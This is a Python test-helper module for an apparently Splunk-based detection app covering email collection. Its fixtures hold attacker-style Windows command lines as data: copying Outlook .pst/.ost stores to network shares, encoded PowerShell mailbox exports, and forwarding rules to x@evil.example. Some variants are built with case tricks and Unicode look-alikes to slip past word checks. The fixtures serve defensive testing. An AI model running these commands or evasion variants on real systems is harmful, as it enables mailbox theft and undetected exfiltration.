"""What test files share: the record sets, event builders and checks more than one test file
uses. Test files import these from here, never from one another.
"""

import base64
import gzip
import json
import os

import pytest

from app.values import MAX_VALUE_CHARS
from tests.conftest import SHARED_DATASETS, missing_shared_data
from tests.rule_events import all_cases, presentations
from tools import real_streams


MIXES = real_streams.MIXES


def mix_records(mix, size=1500):
    if not real_streams.available():
        missing_shared_data("the public records in ../shared/datasets are not here")
    return real_streams.make_mix(mix, 11, size)


def rule_test_records():
    return [record for _, _, case in all_cases() for _, record in presentations(case)]


def encoded_command(script):
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def sysmon_process_event(command_line, image=r"C:\Windows\System32\cmd.exe", parent=r"C:\Windows\explorer.exe", **more):
    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
              "EventCode": "1", "Image": image, "CommandLine": command_line, "ParentImage": parent,
              "User": "CONTOSO\\bob", "Computer": "ws-01.contoso.com", "_time": "1795000000"}
    record.update(more)
    return record


# Process creations written to slip past a word check, each with the rule it fires (or None);
# the differential test requires the gate to agree either way, the next test that they fire.
COMMAND_LINE, AUTOMATION, SCRIPT_HOST = ("t1114_001_mail_file_command_line", "t1114_001_outlook_automation_script",
                                         "t1114_001_outlook_started_by_script_host")


AWKWARD_CASES = [
    (sysmon_process_event(r'robocopy "C:\Users\bob\AppData\Local\Microsoft\Outlook" \\files\drop bob.ost'), COMMAND_LINE),
    (sysmon_process_event(r"copy C:\mail\archive.PST \\files\drop"), COMMAND_LINE),                  # upper case
    (sysmon_process_event("copy C:\\mail\\archive.p\u017ft \\\\files\\drop"), COMMAND_LINE),   # long s: (?i) reads it as s
    (sysmon_process_event("copy C:\\mail\\archive.\u212aost x"), None),                            # Kelvin sign: no word
    (sysmon_process_event("copy C:\\mail\\archive.\u0130st x"), None),                            # dotted capital I
    # The rule reads the command line, not the decoded script: no finding, with or without the gate.
    (sysmon_process_event("powershell -enc " + encoded_command("Copy-Item C:\\mail\\a.pst \\\\files\\drop")), None),
    (sysmon_process_event("powershell.exe -EncodedCommand " + encoded_command("$o = New-Object -ComObject Outlook.Application")),
     AUTOMATION),
    (sysmon_process_event("powershell /e " + encoded_command("New-MailboxExportRequest -Mailbox bob -FilePath \\\\srv\\x.pst")),
     "t1114_002_mailbox_export_request"),
    (sysmon_process_event("powershell -c \"New-MailboxExportRequest -Mailbox bob -FilePath \\\\srv\\share\\bob\""),
     "t1114_002_mailbox_export_request"),
    (sysmon_process_event("powershell -c \"Set-Mailbox bob -ForwardingSmtpAddress x@evil.example\""), "t1114_003_mailbox_forwarding"),
    (sysmon_process_event("powershell -c \"sEt-MaIlBoX bob -ForwardingSmtpAddress x@evil.example\""), "t1114_003_mailbox_forwarding"),
    # The cmdlet regex reads `\u017f` as s, but no rule is indexed on what it then names.
    (sysmon_process_event("powershell -c \"\u017fet-Mailbox bob -ForwardingSmtpAddress x@evil.example\""), None),
    (sysmon_process_event("cscript //nologo mail.vbs Outlook.Application"), AUTOMATION),
    (sysmon_process_event(r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"',
             image=r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
             parent=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"), SCRIPT_HOST),
    (sysmon_process_event("OUTLOOK.EXE /recycle", image=r"C:\Office\OUTLOOK.EXE", parent=r"C:\Windows\explorer.exe"), None),
    (sysmon_process_event("svc.exe a -tzip out.zip C:\\mail\\*.ost", image=r"C:\Temp\svc.exe", OriginalFileName="7z.exe"),
     COMMAND_LINE),
    (sysmon_process_event("x " * (MAX_VALUE_CHARS // 2) + "C:\\mail\\late.pst"), None),   # the word past the length cut
    (sysmon_process_event("notepad.exe C:\\Users\\bob\\notes.txt"), None),
    (sysmon_process_event("", image="", parent="", process_name="outlook.exe", parent_process_name="wscript.exe"), SCRIPT_HOST),
    ({"sourcetype": "XmlWinEventLog", "EventCode": "4688", "NewProcessName": r"C:\Windows\System32\esentutl.exe",
      "CommandLine": r"esentutl.exe /y C:\Users\bob\AppData\Local\Comms\Unistore\data\3\x.dat /d y",
      "ParentProcessName": r"C:\Windows\System32\cmd.exe", "SubjectUserName": "bob", "SubjectDomainName": "CONTOSO"},
     COMMAND_LINE),
    ({"Processes.process_path": r"C:\Windows\System32\robocopy.exe",
      "Processes.process": r"robocopy C:\Users\bob\Documents\Outlook Files\ E:\ *.pst",
      "Processes.parent_process_path": r"C:\Windows\System32\cmd.exe", "Processes.dest": "ws-02"}, COMMAND_LINE),
    # XML only (Fast mode): html.unescape turns &#46; into the dot of .pst.
    ({"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
      "_raw": "<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>"
              "<Computer>ws-3</Computer></System><EventData><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data>"
              "<Data Name='CommandLine'>cmd /c copy C:\\mail\\a&#46;pst \\\\files\\x</Data></EventData></Event>"},
     COMMAND_LINE),
    ({"sourcetype": "WinEventLog", "source": "WinEventLog:Security",
      "_raw": "12/01/2026 10:00:00 AM\nLogName=Security\nEventCode=4688\nComputerName=ws-4\nMessage=A new process "
              "has been created.\n\nNew Process Information:\n\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe\n"
              "\tProcess Command Line:\tcmd /c copy C:\\mail\\b.ost \\\\files\\x\n"
              "\tCreator Process Name:\tC:\\Windows\\explorer.exe\n"}, COMMAND_LINE),
]


def file_event(code, path, **more):
    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"
              if code == "11" else "XmlWinEventLog:Security", "EventCode": code, "Computer": "ws-01.contoso.com",
              "_time": "1795000000"}
    record["TargetFilename" if code == "11" else "ObjectName"] = path
    record.update(more)
    return record


WRITTEN, READ, SHARE, STORE = ("t1114_001_mail_file_written_outside_outlook", "t1114_001_mail_file_read",
                               "t1114_001_mail_file_share_access", "t1114_001_windows_mail_store_read")

AWKWARD_CASES += [
    (file_event("11", r"C:\Temp\stolen.PST", Image=r"C:\Windows\System32\robocopy.exe"), WRITTEN),
    (file_event("11", r"C:\Users\bob\AppData\Local\Microsoft\Outlook\bob.ost", Image=r"C:\Office\outlook.exe"),
     None),
    (file_event("11", "C:\\Temp\\stolen.p\u017ft"), None),      # endswith compares lower(): no match either way
    (file_event("4663", r"C:\Users\bob\Documents\Outlook Files\archive.pst", AccessList="%%4416",
                 ProcessName=r"C:\Windows\System32\cmd.exe", SubjectUserName="bob"), READ),
    (file_event("4663", r"C:\Users\bob\notes.txt", AccessList="%%4416"), None),
    (file_event("5145", r"mail\bob.ost", ShareName=r"\\*\C$", AccessList="%%4416", IpAddress="10.0.0.9"), SHARE),
    # CIM Filesystem: the folder in file_path and the name in file_name, joined by the reader.
    ({"Filesystem.file_path": r"C:\Users\bob\AppData\Local\Comms\Unistore", "Filesystem.file_name": "data",
      "Filesystem.action": "read", "Filesystem.dest": "ws-05"}, STORE),
    ({"Filesystem.file_path": r"C:\Exports", "Filesystem.file_name": "bob.pst", "Filesystem.action": "created",
      "Filesystem.process_path": r"C:\Windows\System32\robocopy.exe"}, WRITTEN),
    ({"Filesystem.file_path": r"C:\Exports\bob.pst", "Filesystem.action": "deleted"}, None),   # FileChange
]


AWKWARD_EVENTS = [record for record, _ in AWKWARD_CASES]


def hayabusa_windows_events():
    """The 23,371 real Windows events and the near misses, as Splunk hands them over; skips without them."""
    folder = os.path.join(SHARED_DATASETS, "Yamato-Security__hayabusa-sample-evtx")
    records = []
    for name in ("evtx_pool.jsonl.gz", "near_miss_cases.jsonl.gz"):
        path = os.path.join(folder, name)
        if os.path.exists(path):
            with gzip.open(path, "rt", encoding="utf-8") as handle:
                records.extend(json.loads(line)["event"] for line in handle if line.strip())
    if not records:
        missing_shared_data("the hayabusa sample events are not in ../shared/datasets")
    return records


def comparable(records):
    """Records as Splunk reads them: a multivalue field of one value is that value.

    (splunklib writes a one-item list as a plain value; the fast path passes the input's
    `$a$` cell through untouched. splunkd reads both as the one value `a`.)
    """
    out = []
    for record in records:
        out.append({name: value[0] if isinstance(value, list) and len(value) == 1 else value
                    for name, value in record.items()})
    return out


# Quotes, commas, CR/LF, `$` and empty multivalue items, non-ASCII, a U+2028: also what
# tests/test_block_path.py holds its two record forms to.
AWKWARD_RECORDS = [
    {"sourcetype": "o365:management:activity", "Operation": "New-InboxRule", "Workload": "Exchange",
     "UserId": "a@contoso.com", "Parameters{}.Name": ["Name", "ForwardTo", "Note"],
     "Parameters{}.Value": ["r$1", "x@evil.example", 'say "hi",\r\nthen $$ ;$a$;'],
     "odd": 'comma, "quote"\nnewline', "unicode": "\u00e9\u4e2d\U0001f600", "dollar": ["$", "$$", ""]},
    {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": ["m@contoso.com", "n@contoso.com"],
     "ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example\n\nGet-Date", "odd": ""},
    {"_raw": "", "odd": "\r", "unicode": "\u2028line separator"},
]


def rule_event_records():
    """Every rule's positive and negative events in every shape, tagged with an id."""
    records = []
    for rule_id, polarity, case in all_cases():
        for shape, record in presentations(case):
            record["test_id"] = "%s/%s/%s/%s" % (rule_id, polarity, case["name"], shape)
            records.append(record)
    return records


def add_account_row(app_dir, values):
    """Append a row to the app's accounts allowlist under whatever header the file has."""
    import csv

    path = os.path.join(app_dir, "lookups", "t1114_allowlist_accounts.csv")
    if not os.path.exists(path):  # the package ships no site lookup: the first | outputlookup makes it
        with open(path, "w", newline="") as handle:
            csv.writer(handle).writerow(["account", "mailbox", "grantee", "rules", "valid_from", "valid_until",
                                         "reason", "class"])
    with open(path, newline="") as handle:
        header = next(csv.reader(handle))
    with open(path, "a", newline="") as handle:
        csv.DictWriter(handle, header).writerow(values)


# tox -e package sets this: there the tools must be present, elsewhere their absence is a skip.
REQUIRED = os.environ.get("T1114_REQUIRE_PACKAGE_TOOLS") == "1"


def tool_missing(module):
    try:
        __import__(module)
    except Exception as error:  # python-magic raises ImportError when libmagic1 is absent
        return "%s is not usable here (%s)" % (module, error)
    return None


def require_tools(*modules, why=""):
    """Fails under tox -e package, skips elsewhere, when one of the packaging tools is missing."""
    missing = next((found for found in map(tool_missing, modules) if found), None)
    if missing:
        if REQUIRED:
            pytest.fail(missing + why)
        pytest.skip(missing + "; `tox -e package` installs it")


def mail_store_read(process_path, target=r"C:\Users\bob\AppData\Local\Microsoft\Outlook\bob@contoso.com.ost",
                    user="SYSTEM", domain="NT AUTHORITY", time="1764216000", computer="ws-017.contoso.com"):
    """A Security 4663 event (XmlWinEventLog fields): `process_path` read a mail store."""
    return {
        "_time": time, "sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Security", "EventCode": "4663",
        "Computer": computer, "SubjectUserName": user, "SubjectDomainName": domain, "ObjectType": "File",
        "ObjectName": target, "ProcessName": process_path, "AccessList": "%%4416", "AccessMask": "0x1",
    }


def python_for(version):
    """The interpreter of a Python Splunk runs apps with ("3.9", "3.13"), or None for the current
    one: pyenv's when it has that version (its shims answer only for the global one), else one on
    PATH (scripts/test.sh appends pyenv's); skips when neither is there."""
    if version is None:
        return None
    import shutil
    import subprocess

    name = "python%s" % version
    try:
        prefix = subprocess.run(["pyenv", "prefix", version], capture_output=True, text=True, check=True).stdout
        path = os.path.join(prefix.strip().split(":")[0], "bin", name)
        if os.path.exists(path):
            return path
    except (OSError, subprocess.CalledProcessError):
        pass
    search = os.pathsep.join(d for d in os.environ.get("PATH", "").split(os.pathsep) if "shims" not in d)
    path = shutil.which(name, path=search)
    if path is None:
        pytest.skip("Python %s is not installed here" % version)
    return path
